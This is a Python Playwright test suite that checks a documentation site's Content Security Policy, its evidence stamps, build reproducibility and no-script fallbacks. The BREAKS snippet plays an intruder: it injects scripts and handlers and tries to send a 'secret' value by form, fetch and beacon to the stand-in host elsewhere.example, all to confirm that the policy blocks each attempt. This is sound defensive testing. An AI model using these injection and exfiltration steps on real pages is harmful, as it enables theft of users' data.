"""What every page promises besides its content: a policy that bites, the evidence it was computed from, nothing drawn
by chance, and plain words where script is off or a browser too old."""

from __future__ import annotations

import posixpath
import re

import pytest
from playwright.sync_api import expect

from realist import evidence
from realist.web import policy
from realist.web.browsers import in_words
from tests.browser.conftest import ROOT


def test_every_page_states_its_policy_before_anything_else_and_holds_no_script_of_its_own(book, pages):
    """What is in a page besides its files is text, data and style; the policy refuses the rest."""
    stated = str(policy.meta())
    found = []
    for page, text in pages.items():
        at = text.find(stated)
        loads = re.search(r"<(?:script|link|style|img|noscript)\b", text)
        found += [f"{page}: no policy"] * (at < 0) + [f"{page}: late"] * bool(loads and at > loads.start())
        scripts = re.findall(r"<script\b([^>]*)>([^<]+)</script>", text)
        found += [f"{page}: script {body[:60]}" for kind, body in scripts if 'type="application/json"' not in kind]
        markup = re.sub(r"<script.*?</script>", "", text, flags=re.DOTALL)
        found += [f"{page}: {tag}" for tag in re.findall(r"<[a-z][^<>]*\son[a-z]+=[^<>]*>", markup)]
        found += [f"{page}: javascript:"] * ('="javascript:' in text)
    assert found == []
    assert all(f"  {name}: {value}\n" in (book / "_headers").read_text() for name, value in policy.headers().items())


LOADED = re.compile(
    r'<(?:script|img|iframe|source|video|audio)\b[^>]*\bsrc="([^"]+)"'
    r'|<link\b[^>]*\brel="(?:stylesheet|icon|preload|preconnect)"[^>]*\bhref="([^"]+)"'
)
"""What a browser fetches by itself."""


def test_nothing_in_a_page_names_another_host_to_load(pages):
    """A second look, at the markup: what a browser would fetch by itself is relative."""
    loaded = [(name, src or href) for name, text in pages.items() for src, href in LOADED.findall(text)]
    assert len(loaded) > len(pages)
    assert [(name, address) for name, address in loaded if re.match(r"(?:https?:)?//", address)] == []


BREAKS = """async (elsewhere) => {
  const broken = [];
  document.addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
  const add = (html) => document.body.insertAdjacentHTML("beforeend", html);
  const script = document.createElement("script");
  script.textContent = "window.realistBroken = 1";
  document.body.append(script);
  add("<img src='data:,' onerror='window.realistBroken = 2'>");
  const far = document.createElement("script");
  far.src = `${elsewhere}/script.js`;
  document.body.append(far);
  add(`<img src="${elsewhere}/seen.png"><iframe src="${elsewhere}/"></iframe><base href="${elsewhere}/">`);
  add(`<form action="${elsewhere}/" method="post"><input name="typed" value="secret"></form>`);
  document.body.lastElementChild.requestSubmit();
  const refused = await fetch(`${elsewhere}/?typed=secret`).then(() => "sent", () => "refused");
  navigator.sendBeacon(`${elsewhere}/`, "secret");
  setTimeout("window.realistBroken = 3");
  for (let left = 40; left && new Set(broken).size < 8; left -= 1) await new Promise((done) => setTimeout(done, 50));
  return { broken: [...new Set(broken)].sort(), refused, ran: window.realistBroken ?? null, base: document.baseURI };
}"""
"""Everything that an intruder in a page would try: to run a script, to make one out of text, and to tell somebody."""


@pytest.mark.parametrize("way", ["http", "file"])
def test_an_intruder_in_a_page_can_run_nothing_and_tell_nobody(visit, site, book, way):
    """A test that the policy bites; were it not there, each of these would work."""
    visited = visit(f"{site}/book/about.html" if way == "http" else (book / "book/about.html").as_uri())
    address = visited.page.url
    ends: list[str] = []
    visited.page.on("requestfailed", lambda request: ends.append(f"{request.url} {request.failure}"))
    visited.page.on("requestfinished", lambda request: ends.append(request.url))
    found = visited.page.evaluate(BREAKS, "https://elsewhere.example")
    assert found["ran"] is None
    assert found["refused"] == "refused"
    assert found["base"] == visited.page.url == address
    tried = {"script-src", "script-src-attr", "script-src-elem", "img-src", "frame-src", "base-uri", "form-action"}
    assert set(found["broken"]) == tried | {"connect-src"}
    gone = [end for end in ends if "elsewhere" in end]
    assert gone
    assert all(end.endswith(" csp") for end in gone)  # refused before anything was sent
    visited.errors.clear()  # they were asked for
    visited.strangers.clear()


def test_every_page_says_which_evidence_it_was_computed_from(book, pages):
    base = evidence.load(ROOT / "data")
    for page, text in pages.items():
        if page != "index.html":  # that one only leads on
            assert base.checksum[:12] in text, page
            assert f"version {base.version} (" in text or f"Evidence base {base.version}," in text, page
            way = re.search(r'<p class="realist-dataset"><a href="([^"#]*)#([^"]+)"', text)
            assert page.startswith("worksheets/") or way, page
            if way:
                led = posixpath.normpath(posixpath.join(posixpath.dirname(page), way[1])) if way[1] else page
                assert f'id="{way[2]}"' in pages[led], page


CHANCE = re.compile(
    r"\bT_[0-9a-f]{5}\b|\b[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}\b|\b0x[0-9a-f]{6,}\b|\b[0-9a-f]{32}\b"
)
"""Names drawn by chance: of a styled table, of a widget's model, of a place in memory."""


def test_nothing_in_the_book_is_drawn_by_chance_or_says_where_it_was_built(book, pages):
    """What `make same` found to differ between two builds, looked for in one."""
    found = []
    notebooks = {str(path): path.read_text(encoding="utf-8") for path in sorted(book.rglob("*.ipynb"))}
    assert notebooks
    for name, text in {**pages, **notebooks}.items():
        found += [f"{name}: {each[0]}" for each in CHANCE.finditer(text)]
        found += [f"{name}: {ROOT}"] * (str(ROOT) in text)
    assert found == []
    assert "how long each page took" in pages["book/status.html"].lower()
    terms = (book / "searchindex.js").read_text(encoding="utf-8")
    assert not re.search(
        r'"\d+yes[a-z]*": (?!\[\])', terms
    )  # run times, which end in such; an earlier build leaves [] behind


SEEN = """() => {
  const seen = (element) => Boolean(element?.checkVisibility({ visibilityProperty: true }));
  const idle = ".search-button-field, .theme-switch-button, .sidebar-toggle, .dropdown-toggle, .realist-too-old";
  return {
    theme: document.documentElement.dataset.theme,
    silent: Array.from(document.querySelectorAll("[data-realist-widget]"), (place) => place.querySelector("p"))
      .filter((told) => !seen(told) || !told.textContent.includes("needs JavaScript")).length,
    leads: seen(document.querySelector(".bd-sidebar-primary nav a")),
    idle: Array.from(document.querySelectorAll(idle)).filter(seen).map((element) => element.className),
    wide: document.documentElement.scrollWidth - innerWidth,
  };
}"""
"""What a reader without script finds on a page; a test may ask even there."""


def test_without_script_every_widget_says_so_and_the_page_reads_and_leads_on(visit, book, pages):
    """Wide and narrow by turns; in the light colours, which need no script to be chosen."""
    widgets = [name for name, text in pages.items() if "data-realist-widget=" in text]
    assert len(widgets) > 10
    page = visit((book / widgets[0]).as_uri(), java_script_enabled=False, scheme="dark").page
    for number, name in enumerate(widgets):
        page.set_viewport_size({"width": (1280, 320)[number % 2], "height": 900})
        page.goto((book / name).as_uri())
        expected = {"theme": "light", "silent": 0, "leads": True, "idle": [], "wide": 0}
        assert page.evaluate(SEEN) == expected, name
    page.locator(".bd-sidebar-primary").get_by_role("link", name="Glossary").click()
    expect(page.get_by_role("heading", level=1)).to_contain_text("Glossary")


def test_a_browser_below_the_floor_reads_why_a_widget_is_missing(visit, site):
    visited = visit(f"{site}/notebooks/design-bench.html")
    expect(visited.page.locator("[data-realist-widget='bench'] button").first).to_be_visible()
    visited.page.add_init_script("delete Object.groupBy")
    visited.page.reload()
    told = visited.page.locator("[data-realist-widget='bench'] .realist-too-old")
    expect(told).to_be_visible()
    expect(told).to_contain_text(in_words())
    expect(visited.page.locator("[data-realist-widget='bench'] button")).to_have_count(0)
    assert visited.errors == []
